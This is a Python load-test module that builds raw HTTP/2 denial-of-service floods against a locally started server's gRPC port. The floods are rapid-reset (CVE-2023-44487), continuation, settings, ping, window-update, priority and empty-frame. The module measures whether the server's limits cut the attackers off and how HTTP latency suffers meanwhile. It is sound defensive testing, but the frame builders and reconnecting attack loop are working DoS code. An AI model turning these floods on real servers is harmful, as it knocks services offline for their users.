"""HTTP/2 floods against the gRPC port, and what a rapid-reset flood does to HTTP beside it
(docs/decisions/0036-http2-abuse-limits.md).

``attack_frames(kind, count)`` builds one connection's flood from raw frames, for each abuse the
connection's limits stop (``quiver_serve/frontend/grpc/limits.py``): ``rapid_reset`` (a
``ModelInfer`` call, HEADERS + DATA, then RST_STREAM at once: CVE-2023-44487), ``settings_flood``,
``ping_flood``, ``window_update_flood``, ``priority_flood``, ``empty_frame_flood`` (empty DATA on
an open stream), ``continuation_flood`` (a header block of empty CONTINUATION frames: the class
of CVE-2024-27316). ``attack(host, port, kind, count)`` sends it on a fresh connection and reads
until the server closes: the GOAWAY's code and last stream id, and how long the cut-off took.

Run as a program it measures, on a daemon it starts (``server.grpc_port`` set, one front-end, so
HTTP and gRPC share its event loop: the worst case)::

    python -m loadtest.h2_flood [--rounds 4] [--quiet-s 1.5] [--flood-s 1.5] [--attackers 2]

single-id ``POST /v1/embed`` latency from one client over alternating windows (:class:`Schedule`:
each round ``quiet_s`` alone, then ``flood_s`` while ``attackers`` connections from another
process flood the gRPC port, each reconnecting as soon as it is cut off; alternating keeps a
busy shared box's background load the same in both), and prints a table: p50/p99 and failures
alone and under the flood, and per attacking connection the time to its GOAWAY and the calls
the server took (its last stream id). ``python -m loadtest.h2_flood attack --grpc-port P ...``
is the attacking process alone (one JSON line per connection).
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import NamedTuple

import numpy as np

from loadtest.h2_client import request_block
from quiver_serve.frontend.grpc import frames as f

KINDS = ("rapid_reset", "settings_flood", "ping_flood", "window_update_flood", "priority_flood",
         "empty_frame_flood", "continuation_flood")
INFER_PATH = "/inference.GRPCInferenceService/ModelInfer"
#: calls (or frames) one attacking connection sends: the measured attack's 20,000
DEFAULT_COUNT = 20_000


def infer_message(ids: list[int], model: str = "") -> bytes:
    """One ``ModelInferRequest`` as a gRPC message (prefix and body)."""
    from quiver_serve.frontend.grpc.proto import message

    req = message("ModelInferRequest")(model_name=model)
    req.inputs.add(name="node_ids", datatype="INT64", shape=[len(ids)])
    req.raw_input_contents.append(np.asarray(ids, "<i8").tobytes())
    body = req.SerializeToString()
    return f.MESSAGE_PREFIX.pack(0, len(body)) + body


def attack_frames(kind: str, count: int) -> bytes:
    """One connection's flood of ``kind`` (module docstring), after the preface and SETTINGS."""
    block = request_block("flood", INFER_PATH)
    if kind == "rapid_reset":
        body = infer_message([1])
        return b"".join(f.frame(f.HEADERS, f.END_HEADERS, sid, block)
                        + f.frame(f.DATA, f.END_STREAM, sid, body) + f.rst_stream(sid, f.CANCEL)
                        for sid in range(1, 2 * count, 2))
    if kind == "empty_frame_flood":  # a call left open, then DATA frames that carry nothing
        return f.frame(f.HEADERS, f.END_HEADERS, 1, block) + f.frame(f.DATA, 0, 1) * count
    if kind == "continuation_flood":  # a header block that never ends
        return f.frame(f.HEADERS, 0, 1, block[:1]) + f.frame(f.CONTINUATION, 0, 1) * count
    one = {"settings_flood": f.frame(f.SETTINGS, 0, 0),
           "ping_flood": f.frame(f.PING, 0, 0, b"flooding"),
           "window_update_flood": f.window_update(0, 1),
           "priority_flood": f.frame(f.PRIORITY, 0, 1, b"\0\0\0\0\x10")}[kind]
    return one * count


class AttackResult(NamedTuple):
    """One attacking connection: the GOAWAY's code and last stream id (None: none came), the
    seconds from its first byte sent to the GOAWAY and to the connection's end."""

    kind: str
    goaway_code: int | None
    last_stream_id: int | None
    goaway_s: float | None
    closed_s: float | None

    @property
    def calls_taken(self) -> int:
        """Streams the server took before it cut the connection off (client ids are odd)."""
        return 0 if not self.last_stream_id else (self.last_stream_id + 1) // 2


async def attack(host: str, port: int, kind: str, count: int = DEFAULT_COUNT,
                 within_s: float = 10.0, flood: bytes | None = None) -> AttackResult:
    """Send one flood on a fresh connection; read until the server closes it or ``within_s``
    passes (``closed_s`` None then)."""
    reader, writer = await asyncio.open_connection(host, port)
    t0 = time.perf_counter()
    writer.write(f.PREFACE + f.settings_frame(()) + (flood or attack_frames(kind, count)))
    goaway: tuple[int, int, float] | None = None
    closed_s: float | None = None
    buf = b""
    try:
        async with asyncio.timeout(within_s):
            while True:
                try:
                    data = await reader.read(65536)
                except ConnectionError:
                    data = b""
                if not data:
                    closed_s = time.perf_counter() - t0
                    break
                buf += data
                while len(buf) >= 9 and goaway is None:
                    head, _, _ = f.FRAME_HEAD.unpack_from(buf)
                    length, ftype = head >> 8, head & 0xFF
                    if len(buf) < 9 + length:
                        break
                    if ftype == f.GOAWAY:
                        last_sid, code, _ = f.decode_goaway(buf[9:9 + length])
                        goaway = (code, last_sid, time.perf_counter() - t0)
                    buf = buf[9 + length:]
                if goaway is not None:
                    buf = b""
    except TimeoutError:
        pass
    finally:
        writer.transport.abort()
    return AttackResult(kind, goaway and goaway[0], goaway and goaway[1], goaway and goaway[2],
                        closed_s)


async def attack_for(host: str, port: int, kind: str, connections: int, duration_s: float,
                     count: int = DEFAULT_COUNT) -> list[AttackResult]:
    """``connections`` attackers, each reconnecting as soon as it is cut off, for
    ``duration_s``."""
    flood = attack_frames(kind, count)
    results: list[AttackResult] = []
    end_s = time.perf_counter() + duration_s

    async def one() -> None:
        while time.perf_counter() < end_s:
            try:
                results.append(await attack(host, port, kind, count, flood=flood))
            except OSError:
                await asyncio.sleep(0.01)

    await asyncio.gather(*[one() for _ in range(connections)])
    return results


# ---- the measurement ---------------------------------------------------------------------------
async def latency_window(url: str, duration_s: float, concurrency: int = 4,
                         headers: dict[str, str] | None = None
                         ) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """Single-id ``POST /v1/embed`` for ``duration_s`` from ``concurrency`` closed-loop
    callers: when each answered call started (``time.time()``), its latency (s), and when each
    failed call started."""
    import httpx

    started: list[float] = []
    lat: list[float] = []
    failed: list[float] = []
    end_s = time.perf_counter() + duration_s

    async def caller(client: httpx.AsyncClient, k: int) -> None:
        i = k
        while time.perf_counter() < end_s:
            wall, t0 = time.time(), time.perf_counter()
            try:
                r = await client.post("/v1/embed", json={"node_ids": [i % 2708]}, timeout=10.0)
                ok = r.status_code == 200 and len(r.json()["embeddings"]) == 1
            except httpx.HTTPError:
                ok = False
            if ok:
                started.append(wall)
                lat.append(time.perf_counter() - t0)
            else:
                failed.append(wall)
            i += concurrency

    async with httpx.AsyncClient(base_url=url, headers=headers,
                                 limits=httpx.Limits(max_connections=concurrency)) as client:
        await asyncio.gather(*[caller(client, k) for k in range(concurrency)])
    return np.asarray(started), np.asarray(lat), np.asarray(failed)


class Schedule(NamedTuple):
    """Alternating windows from ``start_at`` (``time.time()``): each round ``quiet_s`` without
    the flood, then ``flood_s`` with it. The latency client and the attacking process share it,
    so both windows see the same background load (a busy shared box)."""

    start_at: float
    quiet_s: float
    flood_s: float
    rounds: int

    @property
    def period_s(self) -> float:
        return self.quiet_s + self.flood_s

    @property
    def end_at(self) -> float:
        return self.start_at + self.rounds * self.period_s

    def flooded(self, wall: np.ndarray) -> np.ndarray:
        """Which of these start times fall in a flood window."""
        phase = (wall - self.start_at) % self.period_s
        return phase >= self.quiet_s


async def attack_on_schedule(host: str, port: int, kind: str, connections: int,
                             schedule: Schedule, count: int = DEFAULT_COUNT
                             ) -> list[AttackResult]:
    """The flood (``attack_for``) in each of the schedule's flood windows."""
    results: list[AttackResult] = []
    for r in range(schedule.rounds):
        at = schedule.start_at + r * schedule.period_s + schedule.quiet_s
        await asyncio.sleep(max(0.0, at - time.time()))
        left_s = at + schedule.flood_s - time.time()
        if left_s > 0:
            results += await attack_for(host, port, kind, connections, left_s, count)
    return results


def start_attackers(grpc_port: int, kind: str, connections: int,
                    schedule: Schedule, nice: int = 0) -> subprocess.Popen[str]:
    """The attacking process (``python -m loadtest.h2_flood attack``) on ``schedule``, at
    scheduling priority ``nice`` (``os.setpriority``: an attacker on another machine does not take the
    daemon's CPU; one beside it on a small box does, whatever the daemon does about it)."""
    proc = subprocess.Popen(
        [sys.executable, "-m", "loadtest.h2_flood", "attack", "--grpc-port", str(grpc_port),
         "--kind", kind, "--attackers", str(connections), "--start-at", repr(schedule.start_at),
         "--quiet-s", str(schedule.quiet_s), "--flood-s", str(schedule.flood_s),
         "--rounds", str(schedule.rounds)],
        cwd=Path(__file__).resolve().parents[1], stdout=subprocess.PIPE, text=True)
    if nice:  # before its first window: the schedule starts after its imports
        os.setpriority(os.PRIO_PROCESS, proc.pid, nice)
    return proc


def under_attack(url: str, grpc_port: int, kind: str = "rapid_reset", connections: int = 2,
                 quiet_s: float = 1.5, flood_s: float = 1.5, rounds: int = 4,
                 attacker_nice: int = 0,
                 ) -> tuple[tuple[np.ndarray, int], tuple[np.ndarray, int], list[AttackResult]]:
    """Single-id HTTP latency (``latency_window``) over a :class:`Schedule` whose flood windows
    another process fills (``start_attackers``, at ``attacker_nice``): (latencies, failed) of
    the quiet windows and of the flood windows, and the attacking connections."""
    schedule = Schedule(time.time() + 1.5, quiet_s, flood_s, rounds)  # the attacker's imports
    proc = start_attackers(grpc_port, kind, connections, schedule, attacker_nice)
    try:
        asyncio.run(asyncio.sleep(max(0.0, schedule.start_at - time.time())))
        started, lat, failed_at = asyncio.run(latency_window(url,
                                                             schedule.end_at - time.time()))
        results = attacker_results(proc, schedule.period_s * rounds + 30)
    finally:
        proc.kill()
    flooded, failed_flooded = schedule.flooded(started), schedule.flooded(failed_at)
    return ((lat[~flooded], int((~failed_flooded).sum())),
            (lat[flooded], int(failed_flooded.sum())), results)


def attacker_results(proc: subprocess.Popen[str], timeout_s: float) -> list[AttackResult]:
    out, _ = proc.communicate(timeout=timeout_s)
    return [AttackResult(**json.loads(line)) for line in out.splitlines() if line.strip()]


def window_row(name: str, lat_s: np.ndarray, failed: int) -> str:
    """One table row: answered, failed, p50 and p99 ms."""
    p50, p99 = (np.percentile(lat_s, [50, 99]) * 1e3) if lat_s.size else (np.nan, np.nan)
    return f"| {name} | {lat_s.size} | {failed} | {p50:.2f} | {p99:.2f} |"


def attacker_rows(results: list[AttackResult]) -> list[str]:
    cut = [r for r in results if r.goaway_code == f.ENHANCE_YOUR_CALM]
    goaway_ms = np.asarray([r.goaway_s for r in cut]) * 1e3
    taken = np.asarray([r.calls_taken for r in cut])
    rows = ["| attacking connections | cut off (GOAWAY ENHANCE_YOUR_CALM) | to GOAWAY p50 / max ms "
            "| streams taken per connection p50 / max |", "|---|---|---|---|"]
    if cut:
        rows.append(f"| {len(results)} | {len(cut)} | {np.median(goaway_ms):.1f} / "
                    f"{goaway_ms.max():.1f} | {np.median(taken):.0f} / {taken.max()} |")
    else:
        rows.append(f"| {len(results)} | 0 | - | - |")
    return rows


def measure(args: argparse.Namespace) -> None:
    from loadtest.harness import free_port, start_daemon
    from quiver_serve.config import ServeConfig

    cfg = ServeConfig.load(args.config)
    cfg.server.grpc_port = free_port()
    cfg.server.http_workers = 1
    with start_daemon(cfg, Path(args.folder)) as daemon:
        asyncio.run(latency_window(daemon.url, 1.0))  # warm-up
        quiet, flood, results = under_attack(daemon.url, cfg.server.grpc_port, args.kind,
                                             args.attackers, args.quiet_s, args.flood_s,
                                             args.rounds)
    print(f"single-id POST /v1/embed, 4 closed-loop callers; {args.rounds} rounds of "
          f"{args.quiet_s:g} s alone, then {args.flood_s:g} s with {args.attackers} {args.kind} "
          "attackers (another process) reconnecting as soon as they are cut off")
    print("| window | answered | failed | p50 ms | p99 ms |\n|---|---|---|---|---|")
    print(window_row("alone", *quiet))
    print(window_row(f"{args.kind} flood", *flood))
    print("\n".join(attacker_rows(results)))


def parse_args(argv: list[str] | None = None) -> argparse.Namespace:
    ap = argparse.ArgumentParser(prog="python -m loadtest.h2_flood",
                                 description=__doc__.split("\n\n")[0])
    ap.add_argument("mode", nargs="?", choices=("measure", "attack"), default="measure")
    ap.add_argument("--kind", choices=KINDS, default="rapid_reset")
    ap.add_argument("--attackers", type=int, default=2, help="attacking connections at once")
    ap.add_argument("--quiet-s", type=float, default=1.5, help="each round's window alone")
    ap.add_argument("--flood-s", type=float, default=1.5, help="each round's flood window")
    ap.add_argument("--rounds", type=int, default=4)
    ap.add_argument("--start-at", type=float, default=None,
                    help="attack: the schedule's start (time.time()); default: now")
    ap.add_argument("--count", type=int, default=DEFAULT_COUNT,
                    help="calls or frames per attacking connection")
    ap.add_argument("--grpc-port", type=int, help="attack: the gRPC port to flood")
    ap.add_argument("--config", default=None, help="measure: the daemon's config (default: "
                                                    "the embedded one)")
    ap.add_argument("--folder", default=str(Path(tempfile.gettempdir()) / "quiver-h2-flood"),
                    help="measure: where the daemon's config and log go")
    return ap.parse_args(argv)


def main(argv: list[str] | None = None) -> None:
    args = parse_args(argv)
    if args.mode == "attack":
        if args.grpc_port is None:
            raise SystemExit("attack needs --grpc-port")
        schedule = Schedule(args.start_at or time.time(), args.quiet_s, args.flood_s,
                            args.rounds)
        results = asyncio.run(attack_on_schedule("127.0.0.1", args.grpc_port, args.kind,
                                                 args.attackers, schedule, args.count))
        for r in results:
            print(json.dumps(r._asdict()), flush=True)
        return
    measure(args)


if __name__ == "__main__":
    main()
